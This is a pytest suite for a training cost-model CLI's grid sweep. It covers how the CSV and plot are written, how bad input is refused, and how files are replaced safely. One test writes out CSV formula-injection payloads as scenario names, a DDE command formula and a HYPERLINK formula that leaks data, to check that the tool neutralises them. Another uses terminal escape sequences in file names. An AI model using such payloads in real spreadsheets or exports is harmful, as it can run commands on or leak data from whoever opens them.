"""`costmodel sweep`: the grid's figures are the account's, point by point; the CSV, the plot,
the one-line refusals, and the files it may not replace."""

import csv
import errno
import io
import json
import math
import os
import signal
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pytest
import sympy as sp
from hang import hang_limit
from sweep_report import SCENARIOS, report_figure, scenario_path

from costmodel.cli import main
from costmodel.derive import linear_attention as la
from costmodel.derive.symbols import D
from costmodel.errors import CostModelError
from costmodel.evaluate.account.account import account
from costmodel.evaluate.sweep import sweep
from costmodel.evaluate.sweep.sweep_points import MODEL_COLUMNS
from costmodel.inputs.scenario import resolve
from costmodel.present import sweep as present

ROOT = Path(__file__).resolve().parents[2]


#: (scenario file, --set, --vary): every varied key, a refusal of each kind among the points.
CASES = [
    (None, {}, ["step_time=2:242:4", "samples_per_step=20:160:3"]),
    (None, {}, ["step_time=1:29:15"]),  # MFU, then HFU, then HFU of the padded slots above 100%
    ("llama-3.1-8b-packed-64xH100.yaml", {}, ["num_gpus=1024:3072:5", "seq_len=8192:16384:2"]),
    # packed: a document per pipeline (2,048 documents, CP 2: 8,192 GPUs leave some without)
    ("llama-3.1-8b-packed-64xH100.yaml", {}, ["num_gpus=2048:8192:4"]),
    (None, {}, ["mean_tokens_per_sample=1000:31000:3", "num_gpus=8:44:4", "seq_len=4096:32768:2"]),
    (
        None,
        {"measured_tokens_per_s": None},
        ["peak_flops=1e14:1e15:3", "hbm_bandwidth=1e12:4e12:2"],
    ),
    (None, {}, ["measured_tokens_per_s=1e4:1e7:3", "activated_params=1e9:5e10:3"]),
    ("llama-3.1-70b-512xH100.yaml", {}, ["num_gpus=64:1024:5", "step_time=1:21:3"]),
    ("llama-3.1-70b-512xH100.yaml", {"mean_tokens_per_sample": 4000}, ["seq_len=8000:8200:3"]),
    ("deepseek-v3-2048xH800.yaml", {}, ["num_gpus=1024:4096:7", "total_params=5e11:9e11:3"]),
    (
        "qwen3-next-80b-256xB200.yaml",
        {"sequence_lengths": None, "mean_tokens_per_sample": 3000},
        ["seq_len=4096:65538:2", "samples_per_step=512:3072:3"],
    ),
]


@pytest.mark.parametrize("file, base, vary", CASES)
def test_grid_is_the_account_at_each_point(file, base, vary):
    """Each point's figures equal `account()` of the scenario resolved with the point's values
    as --set, to 1e-12; a point is refused (figures empty) exactly where `report` refuses it."""
    scenario = resolve(scenario_path(file), base)
    axes = [sweep.parse_axis(text) for text in vary]
    sweep.check_axes(scenario, axes, base)
    grid = sweep.evaluate_grid(scenario, axes)
    assert len(grid) == math.prod(len(axis.points) for axis in axes)
    kept = 0
    for i in range(len(grid)):
        point = {axis.key: grid.columns[axis.key][i].item() for axis in axes}
        try:
            acc = account(resolve(scenario_path(file), {**base, **point}))
        except CostModelError as error:
            assert grid.refused[i], (point, str(error))
            assert all(np.isnan(grid.columns[c][i]) for c in sweep.FIGURES)
            continue
        assert grid.refused[i] == "", point
        kept += 1
        assert grid.columns["tokens_per_step"][i] == pytest.approx(
            acc["scenario"]["tokens_per_step"], rel=1e-12
        )
        for column in sweep.FIGURES:
            expected, got = report_figure(acc, column), grid.columns[column][i]
            if expected is None:
                assert np.isnan(got), (column, point)
            else:
                assert got == pytest.approx(expected, rel=1e-12, abs=0), (column, point)
    assert kept, "every point refused: the case checks no figure"


def test_grid_in_chunks_is_the_same(monkeypatch):
    """The grid evaluated CHUNK points at a time (here 7: a last chunk shorter than the others)
    equals the grid evaluated at once, refusals included."""
    scenario = resolve()
    axes = [sweep.parse_axis(t) for t in ("samples_per_step=20:160:3", "step_time=2:242:11")]
    whole = sweep.evaluate_grid(scenario, axes)
    monkeypatch.setattr(sweep, "CHUNK", 7)
    chunked = sweep.evaluate_grid(scenario, axes)
    assert list(chunked.refused) == list(whole.refused) and "" in set(whole.refused) != {""}
    for column, values in whole.columns.items():
        np.testing.assert_array_equal(chunked.columns[column], values, err_msg=column)


#: A fresh interpreter runs `costmodel sweep` (CSV and plot into `folder`) and prints the heavy
#: modules it imported.
PROBE = """
import sys
from costmodel import cli
code = cli.main(["sweep", *{args!r}, "--out", "grid.csv", "--plot", "grid.png"])
assert code == 0, code
print(sorted(m for m in ("sympy", "mpmath") if m in sys.modules))
"""


@pytest.mark.parametrize(
    "args",
    [
        ["--vary", "samples_per_step=20:160:3", "--vary", "mean_tokens_per_sample=1000:3000:3"],
        [
            "--scenario",
            str(SCENARIOS / "qwen3-next-80b-256xB200.yaml"),
            "--vary",
            "step_time=1:21:3",
        ],
    ],
)
def test_sweep_does_not_import_sympy(args, tmp_path):
    """A cold `costmodel sweep` evaluates the generated numeric forms: no SymPy import (half a
    second of a command whose target is one)."""
    out = subprocess.run(
        [sys.executable, "-c", PROBE.format(args=args)],
        capture_output=True,
        text=True,
        timeout=hang_limit(12),
        cwd=tmp_path,
        check=True,
    )
    assert out.stdout.strip().splitlines()[-1] == "[]", out.stdout
    assert (tmp_path / "grid.csv").is_file() and (tmp_path / "grid.png").is_file()


def test_each_refusal_is_met():
    """The cases above meet every reason a point is refused for (so each check is tested)."""
    reasons = set()
    for file, base, vary in CASES:
        scenario = resolve(scenario_path(file), base)
        axes = [sweep.parse_axis(text) for text in vary]
        reasons |= {r.split(" (")[0] for r in sweep.evaluate_grid(scenario, axes).refused}
    assert reasons >= {
        "",
        "MFU > 100%",
        "HFU > 100%",
        "HFU counting the padded slots > 100%",
        "MFU from measured_tokens_per_s > 100%",
        "mean_tokens_per_sample > seq_len",
        "activated_params > total_params",
        "num_gpus not a multiple of TP x PP x CP",
        "expert_parallel",
        "seq_len not a multiple of context_parallel",
        "seq_len / CP not a multiple of tensor_parallel",
        "data_parallel x micro_batch > samples_per_step",
        "data_parallel > samples_per_step",
    }, reasons


def test_linear_attention_core_is_proportional_to_the_tokens():
    """The sweep scales F_lin with the tokens of the step: true of its derivation."""
    assert D not in sp.cancel(la.core_training / D).free_symbols


def _csv(text):
    lines = text.splitlines()
    assert lines[0].startswith("# costmodel sweep,")
    return list(csv.reader(io.StringIO("\n".join(lines[1:]))))


def test_csv_columns_and_rows(capsys):
    assert main(["sweep", "--vary", "step_time=60:240:4", "--vary", "num_gpus=40:120:3"]) == 0
    out = capsys.readouterr().out
    assert "N = activated_params" in out.splitlines()[0]
    rows = _csv(out)
    header, body = rows[0], rows[1:]
    today = ["step_time", "num_gpus", "tokens_per_step", *sweep.FIGURES, "refused"]
    assert header == [*today, *MODEL_COLUMNS]  # the models' columns after today's
    assert len(body) == 12
    assert [(float(r[0]), int(r[1])) for r in body[:4]] == [
        (60.0, 40),
        (60.0, 80),
        (60.0, 120),
        (120.0, 40),
    ]
    course = account(resolve(None, {"step_time": 60.0, "num_gpus": 40}))
    assert float(body[0][header.index("mfu")]) == course["mfu"]  # written in full (repr)


def test_refused_point_keeps_its_row_without_figures(capsys):
    assert main(["sweep", "--vary", "step_time=1:61:2"]) == 0
    out = capsys.readouterr().out
    header, first, second = _csv(out)
    refused = header.index("refused")
    assert ".0,," in out.splitlines()[-1]  # an empty reason is an empty field, not ""
    assert first[0] == "1.0" and first[refused] == "MFU > 100%"
    assert all(cell == "" for cell in first[3:refused] + first[refused + 1 :])
    assert second[refused] == "" and float(second[header.index("mfu")]) > 0


def test_integer_points_and_a_null_step_when_it_is_varied(capsys, tmp_path):
    team = tmp_path / "team.yaml"
    team.write_text("step_time: null\n")
    args = ["sweep", "--scenario", str(team), "--vary", "step_time=60:120:2"]
    assert main([*args, "--vary", "num_gpus=8:80:4"]) == 0
    header, *body = _csv(capsys.readouterr().out)
    assert [row[1] for row in body[:4]] == ["8", "32", "56", "80"]


def test_plot_png_and_svg(tmp_path, capsys):
    from PIL import Image

    png, svg = tmp_path / "mfu.png", tmp_path / "mfu.svg"
    vary = ["--vary", "step_time=20:240:12", "--vary", "samples_per_step=20:160:3"]
    assert main(["sweep", *vary, "--out", str(tmp_path / "grid.csv"), "--plot", str(png)]) == 0
    assert main(["sweep", *vary, "--vary", "num_gpus=40:80:2", "--plot", str(svg)]) == 0
    out = capsys.readouterr()
    assert "wrote 36 rows to" in out.out and "wrote the plot (SVG)" in out.err
    with Image.open(png) as image:
        image.verify()
        assert image.format == "PNG" and image.size[0] > 300
    assert ElementTree.parse(svg).getroot().tag.endswith("svg")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grid.csv", "mfu.png", "mfu.svg"]


BAD = [
    (["--vary", "gpu=1:2:2"], "--vary: 'gpu=1:2:2' is not allowed; expected a key among"),
    (["--vary", "step_time=60:240"], "expected KEY=START:STOP:N"),
    (["--vary", "step_time=60:240:0"], "expected N a whole number from 1 to 1,000,000"),
    (["--vary", "step_time=240:60:3"], "expected START < STOP with N > 1"),
    (["--vary", "step_time=60:240:1"], "or START = STOP with N = 1"),
    (["--vary", "seq_len=0:8192:3"], "seq_len: 0 is not allowed; expected a positive integer"),
    (["--vary", "step_time=1:2:1001", "--vary", "num_gpus=1:1000:1000"], "1,001,000 points"),
    (["--vary", "step_time=1:2:2", "--vary", "step_time=1:3:2"], "varied twice"),
    (["--set", "step_time=9", "--vary", "step_time=1:3:2"], "also given by --set"),
    (
        ["--set", "step_time=null", "--vary", "num_gpus=8:16:2", "--closed-forms"],
        "step_time: null is not allowed with --closed-forms",
    ),
    (["--set", "step_time=null", "--vary", "step_time=1:3:2"], "also given by --set"),
    (
        ["--scenario", str(SCENARIOS / "qwen3-next-80b-256xB200.yaml"), "--vary", "seq_len=8:16:2"],
        "--vary: seq_len is not allowed with sequence_lengths",
    ),
    (["--vary", "step_time=1:2:2", "--plot", "mfu.pdf"], "--plot: 'mfu.pdf' is not allowed"),
    (["--vary", "step_time=1:2:2", "--out", "no/such/x.csv"], "expected a file in an existing"),
    (["--vary", "step_time=1:2:2", "--out", "a.png", "--plot", "a.png"], "another file than"),
    (["--set", "seqlen=5", "--vary", "step_time=1:2:2"], "unknown scenario key 'seqlen'"),
    (["--vary", "step_time=null:120:3"], "expected START and STOP numbers (null is no value"),
    (["--vary", "measured_tokens_per_s=1e4:~:3"], "expected START and STOP numbers"),
]


@pytest.mark.parametrize("args, message", BAD)
def test_bad_input_is_one_line_and_exit_2(args, message, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["sweep", *args]) == 2
    out = capsys.readouterr()
    assert out.out == "" and out.err.count("\n") == 1, out.err
    assert out.err.startswith("costmodel: error: ") and message in out.err, out.err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["grid.csv", "mfu.png", "mfu.svg"])
def test_an_unrelated_file_is_not_replaced(name, tmp_path, capsys):
    option = "--out" if name.endswith(".csv") else "--plot"
    theirs = tmp_path / name
    theirs.write_bytes(b"the team's own file\n")
    link = tmp_path / f"link-{name}"
    os.symlink(theirs, link)
    for target in (theirs, link, tmp_path):
        assert main(["sweep", "--vary", "step_time=60:240:3", option, str(target)]) == 2
        err = capsys.readouterr().err
        assert err.startswith(f"costmodel: error: {option}: ") and err.count("\n") == 1
    assert theirs.read_bytes() == b"the team's own file\n" and link.is_symlink()
    # a file a sweep wrote is replaced, atomically (nothing left beside it)
    theirs.unlink()
    link.unlink()
    for stop in (120, 240):
        assert main(["sweep", "--vary", f"step_time=60:{stop}:3", option, str(theirs)]) == 0
    if name.endswith(".csv"):
        assert _csv(theirs.read_text())[-1][0] == "240.0"
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_the_sweep_page_names_every_column_and_key():
    section = (ROOT / "docs" / "howto-sweep.md").read_text(encoding="utf-8")
    for name in (*sweep.FIGURES, *sweep.VARIABLE_KEYS, "tokens_per_step", "refused"):
        assert f"`{name}`" in section, name


def test_csv_in_chunks_is_the_same_text(monkeypatch):
    from costmodel.present import sweep as present

    scenario = resolve()
    axes = [sweep.parse_axis("step_time=1:100:12"), sweep.parse_axis("num_gpus=8:80:10")]
    grid = sweep.evaluate_grid(scenario, axes)
    whole = present.csv_text(grid, "x", "y")
    monkeypatch.setattr(present, "CHUNK_ROWS", 7)
    assert present.csv_text(grid, "x", "y") == whole and len(whole.splitlines()) == 122


# ------------------------------------------------------------------ the CSV's text cells


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        'x,=HYPERLINK("http://example.com/?leak","click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "  =1+1",
        'a "quoted", name\nwith a break',
    ],
)
def test_the_name_is_one_inert_cell(name, tmp_path, capsys):
    """The scenario's name is one cell of the first line, quoted by the csv writer where it has
    to be, and never a formula: a leading = + - @ (a tab, spaces before one) gets a ' before it
    (OWASP's advice for CSV injection). The line stays one comment line that starts with
    `# costmodel sweep`, and the numbers below are numbers."""
    from costmodel.formats import printable

    team = tmp_path / "team.yaml"
    team.write_text(json.dumps({"name": name}))  # JSON is YAML: any text as the name
    assert main(["sweep", "--scenario", str(team), "--vary", "step_time=60:240:3"]) == 0
    out = capsys.readouterr().out
    first = out.splitlines()[0]
    assert first.startswith("# costmodel sweep,")
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows[0]) == 3 and rows[0][0] == "# costmodel sweep"
    shown = printable(name)
    expected = "'" + shown if shown.lstrip(" ")[:1] in ("=", "+", "-", "@") else shown
    assert rows[0][1] == expected
    assert rows[0][2].startswith("fractions, not percent;")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert float(rows[2][0]) == 60.0 and len(rows) == 2 + 3


def test_a_text_cell_of_a_row_is_quoted_and_inert():
    """`refused` is text: through the csv writer (a comma stays in its cell) and never a
    formula; the numbers of a row, a negative one too, are written as they are."""
    import dataclasses

    grid = sweep.evaluate_grid(resolve(), [sweep.parse_axis("step_time=60:240:3")])
    reasons = np.array(["a, b", "=1+1", ""], dtype=object)
    grid = dataclasses.replace(grid, refused=reasons)
    grid.columns["tokens_per_step"] = np.array([-1.5, 2.0, 3.0])
    rows = list(csv.reader(io.StringIO(present.csv_text(grid, "x", "y"))))
    refused = rows[1].index("refused")
    assert [row[refused] for row in rows[2:]] == ["a, b", "'=1+1", ""]
    assert [row[1] for row in rows[2:]] == ["-1.5", "2.0", "3.0"]
    assert all(len(row) == len(rows[1]) for row in rows[1:])


# ------------------------------------------------------------------ the files it writes

VARY = ["--vary", "step_time=60:240:3"]


def _appear(monkeypatch, path: Path, data: bytes) -> None:
    """`data` written at `path` while the grid is computed (someone's file appearing there, or
    the sweep's own earlier file edited, after the path was checked)."""
    real = sweep.evaluate_grid

    def evaluate_grid(*args, **kwargs):
        grid = real(*args, **kwargs)
        path.write_bytes(data)
        return grid

    monkeypatch.setattr(sweep, "evaluate_grid", evaluate_grid)


@pytest.mark.parametrize("option,name", [("--out", "grid.csv"), ("--plot", "mfu.svg")])
def test_a_file_that_appears_while_the_grid_is_computed_is_kept(
    option, name, tmp_path, capsys, monkeypatch
):
    """Nothing at the path when it was checked, a file of someone else's there at the rename:
    kept byte for byte (the rename is a hard link, which never replaces a name), one line,
    status 2, no temporary file left."""
    theirs = b"the team's own file, written while the sweep ran\n"
    target = tmp_path / name
    _appear(monkeypatch, target, theirs)
    assert main(["sweep", *VARY, option, str(target)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"costmodel: error: {option}: ") and err.count("\n") == 1, err
    assert "appeared while the sweep ran; it is left as it is" in err
    assert target.read_bytes() == theirs
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_an_own_file_changed_while_the_grid_is_computed_is_kept(tmp_path, capsys, monkeypatch):
    """The sweep's own earlier CSV at the check, edited before the rename: kept byte for byte,
    one line, status 2."""
    target = tmp_path / "grid.csv"
    assert main(["sweep", *VARY, "--out", str(target)]) == 0
    edited = target.read_bytes() + b"a note the team added\n"
    _appear(monkeypatch, target, edited)
    assert main(["sweep", "--vary", "step_time=60:120:2", "--out", str(target)]) == 2
    err = capsys.readouterr().err
    assert "changed (it is no longer the file a sweep wrote" in err and err.count("\n") == 1
    assert target.read_bytes() == edited
    assert [p.name for p in tmp_path.iterdir()] == ["grid.csv"]


def test_out_and_plot_through_a_link_are_one_file(tmp_path, capsys, monkeypatch):
    """`--out y.svg --plot link/y.svg` (a link to the same folder), or two names of one file:
    refused before any work, nothing written (the CSV was written over by the plot before)."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "link").symlink_to(tmp_path)
    assert main(["sweep", *VARY, "--out", "y.svg", "--plot", "link/y.svg"]) == 2
    err = capsys.readouterr().err
    assert "--plot: 'link/y.svg' is not allowed; expected another file than --out" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link"]
    # a sweep's own SVG and a hard link to it under a CSV name
    assert main(["sweep", *VARY, "--plot", "y.svg"]) == 0
    kept = (tmp_path / "y.svg").read_bytes()
    os.link("y.svg", "x.csv")
    assert main(["sweep", *VARY, "--out", "x.csv", "--plot", "y.svg"]) == 2
    assert "expected another file than --out" in capsys.readouterr().err
    assert (tmp_path / "y.svg").read_bytes() == kept


_FDOPEN = os.fdopen


def _full(handle, mode):
    """os.fdopen whose file fails every write with ENOSPC (a full disk)."""

    class Full:
        def __init__(self, file):
            self.file = file

        def write(self, data):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.file.close()

    return Full(_FDOPEN(handle, mode))


@pytest.mark.parametrize("fault", ["write", "create", "rename"])
def test_a_write_that_fails_is_one_line_and_leaves_nothing(fault, tmp_path, capsys, monkeypatch):
    """A full disk while the CSV is written, a folder where no file can be made (read-only), a
    rename that fails: one line naming --out and the error, status 2, the earlier CSV byte for
    byte (or no file), and no temporary file left."""
    target = tmp_path / "grid.csv"
    assert main(["sweep", *VARY, "--out", str(target)]) == 0
    earlier = target.read_bytes()
    capsys.readouterr()
    if fault == "write":
        monkeypatch.setattr(os, "fdopen", _full)
        target.unlink()  # a new file this time
        earlier = None
    elif fault == "create":
        real_open = os.open

        def read_only(path, flags, *args, **kwargs):
            if flags & os.O_CREAT and Path(path).parent == tmp_path:
                raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
            return real_open(path, flags, *args, **kwargs)

        monkeypatch.setattr(os, "open", read_only)
    else:

        def no_space(src, dst):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        monkeypatch.setattr(os, "replace", no_space)
    assert main(["sweep", "--vary", "step_time=60:120:2", "--out", str(target)]) == 2
    out = capsys.readouterr()
    assert out.err.startswith(f"costmodel: error: --out: '{target}' cannot be written: ")
    assert out.err.count("\n") == 1 and out.out == ""
    strerror = "Read-only file system" if fault == "create" else "No space left on device"
    assert f"cannot be written: {strerror}; it is as it was" in out.err
    if earlier is None:
        assert list(tmp_path.iterdir()) == []
    else:
        assert target.read_bytes() == earlier
        assert [p.name for p in tmp_path.iterdir()] == ["grid.csv"]


def _mount(path: Path, options: str) -> None:
    """A tmpfs at `path` (root, and a container that lets it mount), else the test skips."""
    path.mkdir()
    made = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(path)],
        capture_output=True,
        text=True,
    )
    if made.returncode != 0:
        pytest.skip(f"mounting a tmpfs is not permitted here: {made.stderr.strip()}")


@pytest.mark.parametrize("options", ["ro,size=1m", "size=64k"])
def test_a_read_only_or_full_file_system_is_one_line(options, tmp_path, capsys):
    """--out on a real read-only file system (root writes through a read-only folder's mode,
    not through a read-only mount), and on one too small for the CSV: one line, status 2,
    nothing left on it."""
    disk = tmp_path / "disk"
    _mount(disk, options)
    try:
        args = ["sweep", "--vary", "step_time=60:240:4000", "--out", str(disk / "grid.csv")]
        assert main(args) == 2
        err = capsys.readouterr().err
        strerror = "Read-only file system" if options.startswith("ro") else "No space left"
        assert err.startswith("costmodel: error: --out: ") and strerror in err, err
        assert err.count("\n") == 1
        assert list(disk.iterdir()) == []
    finally:
        subprocess.run(["umount", str(disk)], capture_output=True)


def test_success_lines_show_the_path_escaped(tmp_path, capsys, monkeypatch):
    """A path with control characters is written as it is, and said escaped: no escape
    sequence reaches the terminal from the success line."""
    monkeypatch.chdir(tmp_path)
    name = "grid\x1b[2J\x07.csv"
    assert main(["sweep", *VARY, "--out", name, "--plot", "m\x1b]8;;x\x07.svg"]) == 0
    out = capsys.readouterr().out
    assert (
        out
        == "wrote 3 rows to grid\\x1b[2J\\x07.csv\nwrote the plot (SVG) to m\\x1b]8;;x\\x07.svg\n"
    )
    assert (tmp_path / name).is_file()


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait(timeout=hang_limit(1))
    return proc.pid


def test_a_temporary_file_of_a_killed_sweep_is_removed_by_the_next(tmp_path, capsys):
    """A temporary file of the sweep's pattern, for this target and machine, whose process is
    gone (a sweep killed before its rename) is removed by the next sweep to that path; one whose
    process runs (another sweep writing now), or of another target, another machine, or not a
    regular file, or any other name, is left."""
    target = tmp_path / "grid.csv"
    prefix = present._temp_prefix(target)
    dead, alive = _dead_pid(), os.getpid()
    stale = tmp_path / f"{prefix}{dead}.0123456789ab.tmp"
    kept = [
        tmp_path / f"{prefix}{alive}.0123456789ab.tmp",  # a process that runs
        tmp_path / f"{present._temp_prefix(tmp_path / 'other.csv')}{dead}.0123456789ab.tmp",
        tmp_path / f"{prefix.replace(prefix.split('.')[-2], '00000000')}{dead}.0123456789ab.tmp",
        tmp_path / f"{prefix}{dead}.0123456789ab.tmp.keep",
        tmp_path / f".grid.csv.{dead}.tmp",
        tmp_path / "grid.csv.bak",
    ]
    for path in [stale, *kept]:
        path.write_bytes(b"# costmodel sweep, half written")
    link = tmp_path / f"{prefix}{dead}.ba9876543210.tmp"
    link.symlink_to(tmp_path / "grid.csv.bak")
    assert main(["sweep", *VARY, "--out", str(target)]) == 0
    assert not stale.exists()
    assert all(path.read_bytes() == b"# costmodel sweep, half written" for path in kept)
    assert link.is_symlink()
    assert sorted(tmp_path.iterdir()) == sorted([target, link, *kept])


#: A sweep killed (SIGKILL: nothing of its own runs) as it puts its file in place.
KILLED = """
import os, signal, sys
from costmodel.cli import main
def killed(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)
os.link = os.replace = os.rename = killed
main(sys.argv[1:])
"""


def test_a_killed_sweep_leaves_a_temporary_file_that_the_next_removes(tmp_path):
    """A sweep killed once its CSV is written, before the rename, leaves its temporary file
    (191 MB for a million points); the next sweep to the same path removes it."""
    target = tmp_path / "grid.csv"
    args = ["sweep", "--vary", "step_time=60:240:1000", "--out", str(target)]
    killed = subprocess.run(
        [sys.executable, "-c", KILLED, *args], capture_output=True, timeout=hang_limit(6)
    )
    assert killed.returncode == -signal.SIGKILL
    [left] = tmp_path.iterdir()
    written = left.read_bytes()
    assert written.startswith(b"# costmodel sweep") and written.count(b"\n") == 1002
    assert main(args) == 0
    assert [p.name for p in tmp_path.iterdir()] == ["grid.csv"]
    assert target.read_bytes() == written
